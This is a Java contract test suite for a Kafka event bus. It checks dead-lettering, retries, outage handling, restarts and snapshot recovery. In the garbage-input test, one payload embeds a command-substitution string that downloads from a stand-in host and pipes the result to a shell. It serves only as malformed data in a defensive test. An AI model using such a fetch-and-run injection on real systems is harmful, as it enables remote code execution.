package io.stopbob.platform.bus;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;

import io.stopbob.events.BuildPassed;
import io.stopbob.events.DeployRequested;
import io.stopbob.schemas.EventCodec;
import io.stopbob.schemas.EventMother;
import io.stopbob.schemas.Events;
import io.stopbob.schemas.Topics;
import io.stopbob.testkit.TopicProbe;
import org.apache.kafka.clients.admin.AdminClient;
import org.apache.kafka.clients.admin.AdminClientConfig;
import org.apache.kafka.clients.admin.TopicDescription;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.core.env.Environment;
import org.springframework.kafka.config.KafkaListenerEndpointRegistry;
import org.springframework.kafka.listener.MessageListenerContainer;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What the bus promises every service, run against a real broker: the in-process KRaft
 * broker ({@link EmbeddedBrokerBusTest}) and, where Docker exists, the Apache Kafka image
 * ({@link ContainerBusTest}).
 */
@SpringBootTest(properties = { "stop.catalog.location=classpath:test-catalog.yml", "stop.bus.partitions=2",
		"stop.bus.retry.backoff=50ms", "stop.bus.lanes.first-wait=20ms", "stop.bus.lanes.max-wait=200ms",
		"spring.application.name=bus-test", "stop.bus.snapshot-every=1", "stop.bus.lanes.max-pending=3" })
abstract class BusContract {

	private static final Duration WAIT = Duration.ofSeconds(30);

	@Autowired
	private EventPublisher publisher;

	@Autowired
	private BusTestApplication service;

	@Autowired
	private Environment environment;

	@Autowired
	private WorkingListener working;

	@Autowired
	private LogRange range;

	@Autowired
	private KafkaListenerEndpointRegistry listeners;

	@Autowired
	private Snapshots snapshots;

	private TopicProbe deadLetters;

	@BeforeEach
	void probeDeadLetters() {
		Awaitility.await().atMost(WAIT).until(this.working::caughtUp);
		this.working.done.clear();
		this.service.consumed.clear();
		this.deadLetters = TopicProbe.on(bootstrapServers(), Topics.deadLetter(Topics.DEPLOY_REQUESTED));
	}

	@AfterEach
	void closeProbe() {
		this.deadLetters.close();
	}

	@Test
	void aPublishedEventIsConsumedExactlyAsSentKeyedByItsTarget() throws Exception {
		DeployRequested sent = EventMother.deployRequested("d-roundtrip").build();

		this.publisher.publish(sent);

		ConsumerRecord<String, DeployRequested> received = this.service.consumed.poll(30, TimeUnit.SECONDS);
		assertThat(received).isNotNull();
		assertThat(received.key()).isEqualTo("demo/staging");
		assertThat(received.value()).isEqualTo(sent);
	}

	@Test
	void garbageBytesGoToTheDeadLetterTopicWithTheirReasonAndTheNextRecordIsProcessed() throws Exception {
		byte[] garbage = "{\"sha\":\"$(curl evil.sh | sh)\"}".getBytes(StandardCharsets.UTF_8);
		DeployRequested next = EventMother.deployRequested("d-after-garbage").build();

		sendRaw("demo/staging", garbage);
		this.publisher.publish(next);

		ConsumerRecord<String, byte[]> dead = this.deadLetters
			.await(1, (record) -> "demo/staging".equals(record.key()), WAIT)
			.get(0);
		assertThat(dead.value()).isEqualTo(garbage);
		assertThat(TopicProbe.header(dead, "kafka_dlt-original-topic")).isEqualTo(Topics.DEPLOY_REQUESTED);
		assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER)).contains("NOT_SINGLE_OBJECT");
		assertThat(awaitConsumed("d-after-garbage").value()).isEqualTo(next);
	}

	@Test
	void anUnknownSchemaFingerprintGoesToTheDeadLetterTopicWithItsReason() throws Exception {
		byte[] unknown = EventCodec.standard().encode(EventMother.deployRequested("d-unknown").build());
		ByteBuffer.wrap(unknown, 2, 8).order(ByteOrder.LITTLE_ENDIAN).putLong(42L);

		sendRaw("demo/production", unknown);

		ConsumerRecord<String, byte[]> dead = this.deadLetters
			.await(1, (record) -> "demo/production".equals(record.key()), WAIT)
			.get(0);
		assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER)).contains("UNKNOWN_FINGERPRINT");
	}

	@Test
	void aRecordThatKeepsFailingIsRetriedABoundedNumberOfTimesThenDeadLetteredAsItWas() throws Exception {
		DeployRequested failing = EventMother.deployRequested(BusTestApplication.FAILING_DEPLOY).build();
		DeployRequested next = EventMother.deployRequested("d-after-failure").build();

		this.publisher.publish(failing);
		this.publisher.publish(next);

		ConsumerRecord<String, byte[]> dead = this.deadLetters
			.await(1, (record) -> TopicProbe.decodes(record) && TopicProbe.event(record).equals(failing), WAIT)
			.get(0);
		assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER)).contains("GitHub said 500");
		assertThat(this.service.failingAttempts).hasValue(3);
		assertThat(awaitConsumed("d-after-failure").value()).isEqualTo(next);
	}

	@Test
	void workThatMeetsAnOutageWaitsForItHoldingUpNoOtherTargetAndIsDoneOnceWhenItIsBack() throws Exception {
		this.working.away.add("demo/production");
		this.publisher.publish(built("d-outage", "production"));
		this.publisher.publish(built("d-other", "staging"));

		Awaitility.await().atMost(WAIT).until(() -> this.working.done.contains("d-other"));
		Awaitility.await().atMost(WAIT).until(() -> this.working.attemptsWhileAway.get() >= 5);
		assertThat(this.working.done).containsExactly("d-other");

		this.working.away.clear();

		Awaitility.await().atMost(WAIT).until(() -> this.working.done.size() == 2);
		assertThat(this.working.done).containsExactly("d-other", "d-outage uncertain");
	}

	@Test
	void workThatFailsForGoodDeadLettersItsRecordOnceAndTheTargetGoesOn() throws Exception {
		this.working.broken.add("d-broken");
		try (TopicProbe builds = TopicProbe.on(bootstrapServers(), Topics.deadLetter(Topics.BUILD_PASSED))) {
			this.publisher.publish(built("d-broken", "staging"));
			this.publisher.publish(built("d-after-broken", "staging"));

			ConsumerRecord<String, byte[]> dead = builds
				.await(1,
						(record) -> TopicProbe.decodes(record)
								&& "d-broken".equals(Events.meta(TopicProbe.event(record)).getDeployId()),
						WAIT)
				.get(0);
			assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER))
				.contains("the work of d-broken cannot be done");
			Awaitility.await().atMost(WAIT).until(() -> this.working.done.contains("d-after-broken"));
		}
	}

	@Test
	void aLiveRecordOfAnAppNotInTheCatalogGoesToTheDeadLetterTopicWithItsReason() throws Exception {
		try (TopicProbe builds = TopicProbe.on(bootstrapServers(), Topics.deadLetter(Topics.BUILD_PASSED))) {
			this.publisher.publish(EventMother.buildPassed("d-gone")
				.setMeta(EventMother.meta("d-gone").setApp("gone").build())
				.build());

			ConsumerRecord<String, byte[]> dead = builds.await(1, (record) -> "gone/staging".equals(record.key()), WAIT)
				.get(0);
			assertThat(TopicProbe.header(dead, BusAutoConfiguration.REASON_HEADER))
				.contains("gone is not in the catalog");
		}
	}

	@Test
	void afterARestartWorkThatNeverFinishedRunsAgainLookingFirstAndFinishedWorkIsHistory() throws Exception {
		this.working.away.add("demo/production");
		this.publisher.publish(built("d-unfinished", "production"));
		this.publisher.publish(built("d-finished", "staging"));
		Awaitility.await().atMost(WAIT).until(() -> this.working.done.contains("d-finished"));
		Awaitility.await().atMost(WAIT).until(() -> this.working.attemptsWhileAway.get() >= 1);

		MessageListenerContainer container = this.listeners.getListenerContainer("working-test");
		container.stop();
		this.working.away.clear();
		this.working.done.clear();
		container.start();

		Awaitility.await().atMost(WAIT).until(() -> this.working.done.contains("d-unfinished uncertain"));
		Thread.sleep(500);
		assertThat(this.working.done).containsOnlyOnce("d-unfinished uncertain")
			.as("done before the restart: history, or looked for again if its commit waited behind the other")
			.doesNotContain("d-finished");
	}

	@Test
	void recordsWrittenWhileTheServiceIsDownAreLiveWhenItComesBackEvenWhereItNeverCommittedBefore() throws Exception {
		MessageListenerContainer container = this.listeners.getListenerContainer("working-test");
		container.stop();
		try (AdminClient admin = AdminClient
			.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrapServers()))) {
			// As a group that never committed: its first assignment commits where the log
			// ends.
			admin
				.deleteConsumerGroupOffsets("working-test",
						Set.of(new TopicPartition(Topics.BUILD_PASSED, 0), new TopicPartition(Topics.BUILD_PASSED, 1)))
				.all()
				.get();
		}
		container.start();
		Awaitility.await().atMost(WAIT).until(this.working::caughtUp);
		container.stop();

		this.publisher.publish(built("d-while-down-1", "staging"));
		this.publisher.publish(built("d-while-down-2", "production"));
		container.start();

		Awaitility.await()
			.atMost(WAIT)
			.untilAsserted(() -> assertThat(this.working.done).contains("d-while-down-1 uncertain",
					"d-while-down-2 uncertain"));
	}

	@Test
	void aRestartStartsFromTheSnapshotsAndWithoutThemRebuildsTheSameState() throws Exception {
		for (int deploy = 1; deploy <= 6; deploy++) {
			this.publisher.publish(built("d-snapshot-" + deploy, (deploy % 2 == 0) ? "staging" : "production"));
		}
		Awaitility.await()
			.atMost(WAIT)
			.until(() -> this.working.done.stream().filter((done) -> done.startsWith("d-snapshot-")).count() == 6);
		Set<TopicPartition> partitions = Set.of(new TopicPartition(Topics.BUILD_PASSED, 0),
				new TopicPartition(Topics.BUILD_PASSED, 1));
		Map<TopicPartition, Long> ends;
		try (AdminClient admin = AdminClient
			.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrapServers()))) {
			ends = admin
				.listOffsets(partitions.stream()
					.collect(java.util.stream.Collectors.toMap((partition) -> partition,
							(partition) -> org.apache.kafka.clients.admin.OffsetSpec.latest())))
				.all()
				.get()
				.entrySet()
				.stream()
				.collect(java.util.stream.Collectors.toMap(Map.Entry::getKey, (entry) -> entry.getValue().offset()));
		}
		// Written once each partition's work is done and committed: they cover it all.
		Awaitility.await()
			.atMost(WAIT)
			.until(() -> this.snapshots.read(Set.of(0, 1))
				.values()
				.stream()
				.filter((taken) -> taken.offsets()
					.get(Topics.BUILD_PASSED)
					.equals(ends.get(new TopicPartition(Topics.BUILD_PASSED, taken.partition()))))
				.count() == 2);
		Map<String, Object> before = Map.copyOf(this.working.builds);
		MessageListenerContainer container = this.listeners.getListenerContainer("working-test");
		try {
			restartFromSnapshotsThenWithout(container, before, ends);
		}
		finally {
			if (!container.isRunning()) {
				container.start();
			}
		}
	}

	private void restartFromSnapshotsThenWithout(MessageListenerContainer container, Map<String, Object> before,
			Map<TopicPartition, Long> ends) throws Exception {
		container.stop();
		this.working.replayed.set(0);
		this.working.done.clear();
		container.start();
		Awaitility.await().atMost(WAIT).until(this.working::caughtUp);

		assertThat(this.working.builds).isEqualTo(before);
		assertThat(this.working.replayed).as("records read again before the snapshots' offsets").hasValue(0);
		assertThat(this.working.done).as("work after a restore").isEmpty();

		// A snapshot that cannot be read is ignored: its partition is replayed.
		int garbled = (ends.get(new TopicPartition(Topics.BUILD_PASSED, 0)) > 0) ? 0 : 1;
		container.stop();
		try (KafkaProducer<String, byte[]> producer = new KafkaProducer<>(
				Map.of("bootstrap.servers", bootstrapServers()), new StringSerializer(), new ByteArraySerializer())) {
			producer
				.send(new ProducerRecord<>(Snapshots.topic("bus-test"), garbled, "bus-test/" + garbled,
						new byte[] { 1, 2, 3 }))
				.get();
		}
		this.working.replayed.set(0);
		container.start();
		Awaitility.await().atMost(WAIT).until(this.working::caughtUp);

		assertThat(this.working.builds).as("one partition replayed, the other restored").isEqualTo(before);
		assertThat(this.working.replayed.get()).as("the garbled snapshot's partition replayed, as far as its log")
			.isPositive()
			.isLessThanOrEqualTo(ends.get(new TopicPartition(Topics.BUILD_PASSED, garbled)).intValue());
		Awaitility.await()
			.atMost(WAIT)
			.alias("a replayed partition is snapshotted again")
			.until(() -> this.snapshots.read(Set.of(garbled)).containsKey(garbled));

		container.stop();
		try (AdminClient admin = AdminClient
			.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrapServers()))) {
			admin.deleteRecords(Map.of(new TopicPartition(Snapshots.topic("bus-test"), 0),
					org.apache.kafka.clients.admin.RecordsToDelete.beforeOffset(-1),
					new TopicPartition(Snapshots.topic("bus-test"), 1),
					org.apache.kafka.clients.admin.RecordsToDelete.beforeOffset(-1)))
				.all()
				.get();
		}
		this.working.replayed.set(0);
		container.start();
		Awaitility.await().atMost(WAIT).until(this.working::caughtUp);

		assertThat(this.working.builds).as("rebuilt from the log alone").isEqualTo(before);
		assertThat(this.working.replayed.get()).as("the log replayed")
			.isGreaterThanOrEqualTo(6)
			.isLessThanOrEqualTo((int) ends.values().stream().mapToLong(Long::longValue).sum());
	}

	@Test
	void workBeyondWhatMayWaitForTheReplayIsReadAgainForAndDoneOnce() throws Exception {
		MessageListenerContainer container = this.listeners.getListenerContainer("working-test");
		container.stop();
		try {
			for (int deploy = 1; deploy <= 8; deploy++) {
				this.publisher.publish(built("d-down-" + deploy, (deploy % 2 == 0) ? "staging" : "production"));
			}
			container.start();

			Awaitility.await()
				.atMost(WAIT)
				.until(() -> this.working.done.stream().filter((done) -> done.startsWith("d-down-")).count() >= 8);
			Thread.sleep(500);
			assertThat(this.working.done).filteredOn((done) -> done.startsWith("d-down-"))
				.as("at most 3 per partition wait for the replay (stop.bus.lanes.max-pending); the rest is read again")
				.containsExactlyInAnyOrder("d-down-1 uncertain", "d-down-2 uncertain", "d-down-3 uncertain",
						"d-down-4 uncertain", "d-down-5 uncertain", "d-down-6 uncertain", "d-down-7 uncertain",
						"d-down-8 uncertain");
		}
		finally {
			if (!container.isRunning()) {
				container.start();
			}
		}
	}

	private static BuildPassed built(String deployId, String environment) {
		return EventMother.buildPassed(deployId)
			.setMeta(EventMother.meta(deployId).setEnvironment(environment).build())
			.build();
	}

	@Test
	void aRangeReadHandsOnWhatItsKeyWroteSinceItsTimeUpToWhereTheLogEnded() throws Exception {
		long base = System.currentTimeMillis() - 3_600_000;
		sendAt(Topics.TAG_CREATED, "demo/staging", base, tagged("d-range-old"));
		sendAt(Topics.TAG_CREATED, "demo/staging", base + 10_000, tagged("d-range-1"));
		sendAt(Topics.TAG_CREATED, "demo/staging", base + 20_000, tagged("d-range-2"));
		List<String> read = new java.util.ArrayList<>();

		this.range.read(List.of(Topics.TAG_CREATED), "demo/staging", java.time.Instant.ofEpochMilli(base + 5_000),
				(record) -> read.add(Events.meta(record.value()).getDeployId()));

		assertThat(read).filteredOn((id) -> id.startsWith("d-range-")).containsExactly("d-range-1", "d-range-2");
	}

	private static byte[] tagged(String deployId) {
		return EventCodec.standard().encode(EventMother.tagCreated(deployId).build());
	}

	private void sendAt(String topic, String key, long timestamp, byte[] value) throws Exception {
		try (KafkaProducer<String, byte[]> producer = new KafkaProducer<>(
				Map.of("bootstrap.servers", bootstrapServers()), new StringSerializer(), new ByteArraySerializer())) {
			producer.send(new ProducerRecord<>(topic, null, timestamp, key, value)).get();
		}
	}

	@Test
	void everyTopicAndItsDeadLetterTopicExistWithTheConfiguredPartitions() throws Exception {
		try (AdminClient admin = AdminClient
			.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrapServers()))) {
			List<String> expected = Topics.all()
				.stream()
				.flatMap((topic) -> java.util.stream.Stream.of(topic, Topics.deadLetter(topic)))
				.toList();

			Map<String, TopicDescription> topics = admin.describeTopics(expected).allTopicNames().get();

			assertThat(topics).hasSize(14);
			assertThat(topics.values()).allSatisfy((topic) -> assertThat(topic.partitions()).hasSize(2));
		}
	}

	private String bootstrapServers() {
		return this.environment.getRequiredProperty("spring.kafka.bootstrap-servers");
	}

	private ConsumerRecord<String, DeployRequested> awaitConsumed(String deployId) throws InterruptedException {
		long deadline = System.nanoTime() + WAIT.toNanos();
		while (System.nanoTime() < deadline) {
			ConsumerRecord<String, DeployRequested> record = this.service.consumed.poll(1, TimeUnit.SECONDS);
			if (record != null && record.value().getMeta().getDeployId().equals(deployId)) {
				return record;
			}
		}
		throw new AssertionError(deployId + " was not consumed within " + WAIT);
	}

	private void sendRaw(String key, byte[] value) throws Exception {
		try (KafkaProducer<String, byte[]> producer = new KafkaProducer<>(
				Map.of("bootstrap.servers", bootstrapServers()), new StringSerializer(), new ByteArraySerializer())) {
			producer.send(new ProducerRecord<>(Topics.DEPLOY_REQUESTED, key, value)).get();
		}
	}

}
